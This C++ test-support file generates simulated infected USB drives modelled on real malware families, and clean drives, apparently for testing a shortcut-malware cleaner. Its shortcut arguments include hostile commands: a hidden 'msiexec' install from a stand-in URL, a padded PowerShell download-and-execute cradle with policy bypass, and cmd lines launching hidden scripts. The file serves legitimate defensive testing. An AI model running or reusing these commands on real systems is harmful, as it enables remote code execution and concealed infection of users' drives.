#include "support/StickGenerator.h"

#include "ports/FileSystem.h"
#include "support/TempDir.h"

#include <stdexcept>

namespace tw::test {
namespace {

const std::string cmdExe = "C:\\Windows\\system32\\cmd.exe";
const std::string shell32Icon = "%SystemRoot%\\system32\\SHELL32.dll";
const std::string nbsp = "\xC2\xA0";
const std::string zeroWidth = "\xE2\x80\x8B";
constexpr std::uint32_t hiddenSystem = attr::hidden | attr::system;
constexpr std::uint32_t hiddenFolder = attr::directory | attr::hidden | attr::system;

// An encoded script as the script encoder writes it.
const std::string encodedScript = "#@~^TAAAAA==@#@&P~,l^/Y~Jtn^VK~AKD^N\"@#@&0ZMAAA==^#~@";
const std::string program = std::string("MZ\x90\0\x03\0\0\0", 8) + "This program cannot be run";

class Stick {
public:
    Stick(std::string root, std::string label, GeneratedStick& out)
        : m_root(std::move(root)), m_out(out) {
        m_out.label = std::move(label);
    }

    std::string path(const std::string& relative) const { return native(m_root + "/" + relative); }

    void folder(const std::string& relative, std::uint32_t attributes = 0) {
        makeDir(path(relative));
        if (attributes != 0) {
            setAttr(path(relative), attributes | attr::directory);
        }
    }
    void file(const std::string& relative, const std::string& content,
              std::uint32_t attributes = 0) {
        writeFile(path(relative), content);
        if (attributes != 0) {
            setAttr(path(relative), attributes);
        }
    }
    void link(const std::string& relative, const LinkSpec& spec) {
        const std::vector<unsigned char> bytes = writeShellLink(spec);
        file(relative, std::string(bytes.begin(), bytes.end()));
    }
    // The user's own documents, which must come through unchanged.
    void userFile(const std::string& relative, const std::string& content,
                  std::uint32_t attributes = 0) {
        file(relative, content, attributes);
        m_out.untouched.push_back(relative);
    }

    GeneratedStick& out() { return m_out; }

private:
    std::string m_root;
    GeneratedStick& m_out;
};

LinkSpec interpreterLink(const std::string& interpreter, const std::string& arguments) {
    LinkSpec s;
    s.idPath = "C:\\Windows\\system32\\" + interpreter;
    s.arguments = arguments;
    s.iconLocation = shell32Icon;
    s.iconIndex = 3;
    return s;
}

void jenxcus(Stick& s) {
    s.folder("docs");
    s.userFile("docs/report.docx", "PK report");
    s.folder("photos");
    s.userFile("photos/a.jpg", "\xFF\xD8\xFF jpeg");
    s.userFile("notes.txt", "my notes");
    setAttr(s.path("docs"), hiddenFolder);
    setAttr(s.path("photos"), hiddenFolder);
    setAttr(s.path("notes.txt"), hiddenSystem | attr::archive);
    s.file("ttvsbxsl.vbs", encodedScript, hiddenSystem);
    for (const std::string name : {"docs", "photos"}) {
        s.link(name + ".lnk", interpreterLink("cmd.exe", "/c start ttvsbxsl.vbs & start explorer " +
                                                             name + " & exit"));
    }
    s.link("notes.txt.lnk",
           interpreterLink("cmd.exe", "/c start ttvsbxsl.vbs & start notes.txt & exit"));
    s.out().malicious = {"docs.lnk", "photos.lnk", "notes.txt.lnk", "ttvsbxsl.vbs"};
    s.out().restored = {"docs", "photos", "notes.txt"};
}

void forbix(Stick& s) {
    s.folder("Work");
    s.userFile("Work/plan.xlsx", "PK plan");
    setAttr(s.path("Work"), hiddenFolder);
    s.file("Manuel.doc", encodedScript, hiddenSystem);
    LinkSpec link = interpreterLink(
        "cmd.exe", "/c start wscript /e:VBScript.Encode Manuel.doc & start explorer Work & exit");
    link.showCommand = 7;
    s.link("Work.lnk", link);
    s.out().malicious = {"Work.lnk", "Manuel.doc"};
    s.out().restored = {"Work"};
}

void gamarue(Stick& s) {
    s.folder(nbsp);
    s.folder(nbsp + "/docs");
    s.userFile(nbsp + "/docs/report.docx", "PK report");
    s.userFile(nbsp + "/photo.jpg", "\xFF\xD8\xFF jpeg");
    s.file(nbsp + "/ygjuqmc.dll", program, hiddenSystem);
    setAttr(s.path(nbsp), hiddenFolder);
    s.file("~WYDCNU.FAT32", "marker", hiddenSystem);
    s.link(s.out().label + ".lnk",
           interpreterLink("rundll32.exe", nbsp + "\\ygjuqmc.dll,DllRegisterServer"));
    s.out().malicious = {s.out().label + ".lnk", nbsp + "/ygjuqmc.dll", "~WYDCNU.FAT32"};
    s.out().restored = {nbsp};
    s.out().renamed = {nbsp};
}

void runner(Stick& s) {
    s.folder("photos");
    s.userFile("photos/a.jpg", "\xFF\xD8\xFF jpeg");
    s.folder("sysvolume");
    s.file("sysvolume/u123456.vbs", "Set s = CreateObject(\"WScript.Shell\")", hiddenSystem);
    s.file("sysvolume/u123456.dat", "payload", hiddenSystem);
    setAttr(s.path("sysvolume"), hiddenFolder);
    LinkSpec link;
    link.linkInfoPath = "C:\\Windows\\System32\\wscript.exe";
    link.idPath = *link.linkInfoPath;
    link.arguments = "E:\\sysvolume\\u123456.vbs";
    link.iconLocation = "%SystemRoot%\\System32\\imageres.dll";
    s.link(s.out().label + ".lnk", link);
    s.out().malicious = {s.out().label + ".lnk", "sysvolume/u123456.vbs", "sysvolume/u123456.dat"};
    s.out().restored = {"sysvolume"};
}

void dorkbot(Stick& s) {
    s.userFile("report.docx", "PK report");
    const std::string sid = "RECYCLER/S-1-5-21-1123561945-1935655697-1060284298-1003";
    s.folder("RECYCLER");
    s.folder(sid);
    s.file(sid + "/winmgr.exe", program, hiddenSystem);
    setAttr(s.path(sid), hiddenFolder);
    setAttr(s.path("RECYCLER"), hiddenFolder);
    s.out().malicious = {sid + "/winmgr.exe"};
}

void plugx(Stick& s) {
    s.folder("RECYCLER.BIN");
    s.folder("RECYCLER.BIN/1");
    s.file("RECYCLER.BIN/desktop.ini",
           "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n", hiddenSystem);
    s.file("RECYCLER.BIN/1/AvastSvc.exe", program, hiddenSystem);
    s.file("RECYCLER.BIN/1/wsc.dll", program, hiddenSystem);
    setAttr(s.path("RECYCLER.BIN/1"), hiddenFolder);
    setAttr(s.path("RECYCLER.BIN"), hiddenFolder);
    s.folder("_");
    s.userFile("_/report.docx", "PK report");
    setAttr(s.path("_"), hiddenFolder);
    s.link(s.out().label + ".lnk",
           interpreterLink("cmd.exe", "/q /c \"RECYCLER.BIN\\1\\AvastSvc.exe\""));
    s.out().malicious = {s.out().label + ".lnk", "RECYCLER.BIN/1/AvastSvc.exe",
                         "RECYCLER.BIN/1/wsc.dll", "RECYCLER.BIN/desktop.ini"};
    s.out().restored = {"RECYCLER.BIN", "_"};
}

void raspberryRobin(Stick& s) {
    s.folder("Documents");
    s.userFile("Documents/cv.pdf", "%PDF-1.7");
    setAttr(s.path("Documents"), hiddenFolder);
    s.file("CnhR6m.usb", "set /p=^\"ms^\"", hiddenSystem);
    LinkSpec link = interpreterLink(
        "cmd.exe", "/r type CnhR6m.usb|cmd & msiexec /q -i http://q2.example.net/Ge3bWz");
    link.showCommand = 7;
    s.link("Documents.lnk", link);
    s.out().malicious = {"Documents.lnk", "CnhR6m.usb"};
    s.out().restored = {"Documents"};
}

void docusment(Stick& s) {
    for (const std::string name : {"Documents", "New Folder"}) {
        s.folder(name);
        s.userFile(name + "/notes.txt", "notes of " + name);
        setAttr(s.path(name), hiddenFolder);
        s.file(name + ".exe", program);
    }
    s.folder(zeroWidth);
    s.file(zeroWidth + "/1.exe", program, hiddenSystem);
    s.file(zeroWidth + "/x.dll", program, hiddenSystem);
    s.file(zeroWidth + "/y.dat", "data", hiddenSystem);
    setAttr(s.path(zeroWidth), hiddenFolder);
    s.out().malicious = {"Documents.exe", "New Folder.exe", zeroWidth + "/1.exe"};
    s.out().restored = {"Documents", "New Folder", zeroWidth};
    s.out().renamed = {zeroWidth};
}

void paddedArguments(Stick& s) {
    s.folder("Photos");
    s.userFile("Photos/a.jpg", "\xFF\xD8\xFF jpeg");
    s.file("Photos/thumb.ps1", "iex (New-Object Net.WebClient).DownloadString('http://x')",
           hiddenSystem);
    setAttr(s.path("Photos"), hiddenFolder);
    LinkSpec link =
        interpreterLink("WindowsPowerShell\\v1.0\\powershell.exe",
                        std::string(300, ' ') +
                            "\t\r\n-w hidden -ep bypass -c \"iex (gc .\\Photos\\thumb.ps1 -raw)\"");
    s.link("Photos.lnk", link);
    s.out().malicious = {"Photos.lnk", "Photos/thumb.ps1"};
    s.out().restored = {"Photos"};
}

void exploitLink(Stick& s) {
    s.folder("tools");
    s.userFile("tools/readme.txt", "read me");
    s.file("tools/~wtr4141.dll", program, hiddenSystem);
    LinkSpec link;
    link.controlPanelFile = "E:\\tools\\~wtr4141.dll";
    link.specialFolderId = 3;
    s.link("tools/readme.lnk", link);
    s.out().malicious = {"tools/readme.lnk", "tools/~wtr4141.dll"};
}

void documentReplacing(Stick& s) {
    s.folder("docs");
    s.userFile("docs/report.docx", "PK report", hiddenSystem | attr::archive);
    s.userFile("docs/budget.xlsx", "PK budget", hiddenSystem | attr::archive);
    s.folder(".sys");
    s.file(".sys/run.vbs", "WScript.Echo 1", hiddenSystem);
    setAttr(s.path(".sys"), hiddenFolder);
    for (const std::string name : {"report.docx", "budget.xlsx"}) {
        LinkSpec link;
        link.linkInfoPath = "C:\\Windows\\System32\\wscript.exe";
        link.arguments = "//B \"..\\.sys\\run.vbs\" \"" + name + "\"";
        link.workingDir = "";
        s.link("docs/" + name + ".lnk", link);
    }
    s.out().malicious = {"docs/report.docx.lnk", "docs/budget.xlsx.lnk", ".sys/run.vbs"};
    s.out().restored = {"docs/report.docx", "docs/budget.xlsx"};
}

LinkSpec localLink(const std::string& path) {
    LinkSpec s;
    s.linkInfoPath = path;
    s.linkInfoUnicode = true;
    s.idPath = path;
    return s;
}

} // namespace

std::vector<Family> allFamilies() {
    return {Family::jenxcus,        Family::forbix,           Family::gamarue,
            Family::runner,         Family::dorkbot,          Family::plugx,
            Family::raspberryRobin, Family::docusment,        Family::paddedArguments,
            Family::exploitLink,    Family::documentReplacing};
}

std::string familyName(Family family) {
    switch (family) {
    case Family::jenxcus:
        return "jenxcus";
    case Family::forbix:
        return "forbix";
    case Family::gamarue:
        return "gamarue";
    case Family::runner:
        return "runner";
    case Family::dorkbot:
        return "dorkbot";
    case Family::plugx:
        return "plugx";
    case Family::raspberryRobin:
        return "raspberryRobin";
    case Family::docusment:
        return "docusment";
    case Family::paddedArguments:
        return "paddedArguments";
    case Family::exploitLink:
        return "exploitLink";
    case Family::documentReplacing:
        return "documentReplacing";
    }
    return "?";
}

GeneratedStick makeInfectedStick(const std::string& root, Family family, const std::string& label) {
    GeneratedStick out;
    Stick s(root, label, out);
    switch (family) {
    case Family::jenxcus:
        jenxcus(s);
        break;
    case Family::forbix:
        forbix(s);
        break;
    case Family::gamarue:
        gamarue(s);
        break;
    case Family::runner:
        runner(s);
        break;
    case Family::dorkbot:
        dorkbot(s);
        break;
    case Family::plugx:
        plugx(s);
        break;
    case Family::raspberryRobin:
        raspberryRobin(s);
        break;
    case Family::docusment:
        docusment(s);
        break;
    case Family::paddedArguments:
        paddedArguments(s);
        break;
    case Family::exploitLink:
        exploitLink(s);
        break;
    case Family::documentReplacing:
        documentReplacing(s);
        break;
    }
    return out;
}

std::vector<CleanLink> allCleanLinks() {
    return {CleanLink::programOnC,   CleanLink::documentOnStick, CleanLink::folderOnStick,
            CleanLink::webPage,      CleanLink::powershellTool,  CleanLink::shellFolder,
            CleanLink::portableApp,  CleanLink::networkShare,    CleanLink::controlPanelApplet,
            CleanLink::relativeLink, CleanLink::cmdTool};
}

std::vector<unsigned char> cleanLinkBytes(CleanLink kind) {
    LinkSpec s;
    switch (kind) {
    case CleanLink::programOnC:
        s = localLink("C:\\Program Files\\WPS Office\\wps.exe");
        s.workingDir = "C:\\Program Files\\WPS Office";
        break;
    case CleanLink::documentOnStick:
        s = localLink("E:\\docs\\report.docx");
        s.relativePath = ".\\docs\\report.docx";
        break;
    case CleanLink::folderOnStick:
        s = localLink("E:\\photos");
        s.fileAttributes = attr::directory;
        break;
    case CleanLink::webPage:
        s = localLink("C:\\Program Files\\Internet Explorer\\iexplore.exe");
        s.arguments = "https://www.example.com.cn/";
        break;
    case CleanLink::powershellTool:
        s = localLink("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        s.arguments = "-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File "
                      "\"C:\\tools\\backup.ps1\"";
        s.workingDir = "C:\\tools";
        break;
    case CleanLink::shellFolder:
        s.rootClsid = "{20D04FE0-3AEA-1069-A2D8-08002B30309D}";
        break;
    case CleanLink::portableApp:
        s = localLink("E:\\PortableApps\\Notepad++\\notepad++.exe");
        s.arguments = "E:\\docs\\notes.txt";
        s.workingDir = "E:\\PortableApps\\Notepad++";
        break;
    case CleanLink::networkShare:
        s.networkShare = "\\\\fileserver\\public\\plan.xlsx";
        break;
    case CleanLink::controlPanelApplet:
        s.controlPanelFile = "C:\\Windows\\System32\\main.cpl";
        break;
    case CleanLink::relativeLink:
        s.relativePath = ".\\docs\\readme.txt";
        break;
    case CleanLink::cmdTool:
        s = localLink(cmdExe);
        s.arguments = "/k \"C:\\dev\\env.bat\"";
        s.workingDir = "E:\\";
        break;
    }
    return writeShellLink(s);
}

GeneratedStick makeCleanStick(const std::string& root, const std::string& label) {
    GeneratedStick out;
    Stick s(root, label, out);
    s.folder("System Volume Information");
    s.userFile("System Volume Information/IndexerVolumeGuid", "{guid}", hiddenSystem);
    setAttr(s.path("System Volume Information"), hiddenFolder);
    s.out().untouched.push_back("System Volume Information");
    s.folder("$RECYCLE.BIN");
    s.userFile("$RECYCLE.BIN/desktop.ini",
               "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n",
               hiddenSystem);
    setAttr(s.path("$RECYCLE.BIN"), hiddenFolder);
    s.out().untouched.push_back("$RECYCLE.BIN");

    s.folder("docs");
    s.userFile("docs/report.docx", "PK report");
    s.userFile("docs/notes.txt", "notes");
    s.userFile("docs/readme.txt", "read me");
    s.userFile("docs/desktop.ini", "[.ShellClassInfo]\r\nIconResource=shell32.dll,3\r\n",
               hiddenSystem);
    setAttr(s.path("docs"), attr::directory | attr::readOnly);
    s.out().untouched.push_back("docs");
    s.folder("photos");
    s.userFile("photos/a.jpg", "\xFF\xD8\xFF jpeg");
    s.folder("PortableApps");
    s.folder("PortableApps/Notepad++");
    s.userFile("PortableApps/Notepad++/notepad++.exe", program);
    s.userFile("PortableApps/Notepad++/SciLexer.dll", program);
    s.folder("_");
    s.userFile("_/old.txt", "a visible folder of the user's named _");
    s.userFile("secret.txt", "hidden by the user", attr::hidden | attr::archive);
    s.folder("private");
    s.userFile("private/diary.txt", "dear diary");
    setAttr(s.path("private"), attr::directory | attr::hidden);
    s.out().untouched.push_back("private");
    s.userFile("setup.v2.exe", program);
    s.userFile("tools.bat", "@echo off\r\necho hello\r\n");

    const std::pair<CleanLink, std::string> names[] = {
        {CleanLink::programOnC, "WPS 文字.lnk"},
        {CleanLink::documentOnStick, "报告 - 快捷方式.lnk"},
        {CleanLink::folderOnStick, "照片 - 快捷方式.lnk"},
        {CleanLink::webPage, "网站.lnk"},
        {CleanLink::powershellTool, "备份.lnk"},
        {CleanLink::shellFolder, "此电脑.lnk"},
        {CleanLink::portableApp, "Notepad++.lnk"},
        {CleanLink::networkShare, "共享计划.lnk"},
        {CleanLink::controlPanelApplet, "鼠标.lnk"},
        {CleanLink::relativeLink, "readme.lnk"},
        {CleanLink::cmdTool, "开发环境.lnk"},
    };
    for (const auto& [kind, name] : names) {
        const std::vector<unsigned char> bytes = cleanLinkBytes(kind);
        s.userFile(name, std::string(bytes.begin(), bytes.end()));
    }
    if (std::size(names) != allCleanLinks().size()) {
        throw std::logic_error("a clean link kind without a file");
    }
    return out;
}

} // namespace tw::test
